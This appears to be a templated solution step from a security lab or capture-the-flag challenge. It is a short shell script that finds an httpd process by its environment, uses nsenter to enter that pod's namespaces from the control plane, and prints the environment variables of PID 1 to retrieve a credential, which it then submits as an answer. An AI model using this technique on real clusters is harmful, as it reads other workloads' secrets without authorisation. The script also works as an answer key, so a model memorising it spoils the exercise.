# earns: none
# From the control plane into the namespaces of the pod, without a word to the worker.
for process in /proc/[0-9]*; do
    [ "$(cat $process/comm)" = httpd ] && tr '\0' '\n' < $process/environ | grep -q '^{{ variable }}={{ prefix }}' && pid=${process#/proc/}
done
nsenter -t $pid -m -p cat /proc/1/environ | tr '\0' '\n'
cksl answer credential {{ prefix }}{{ rest }}
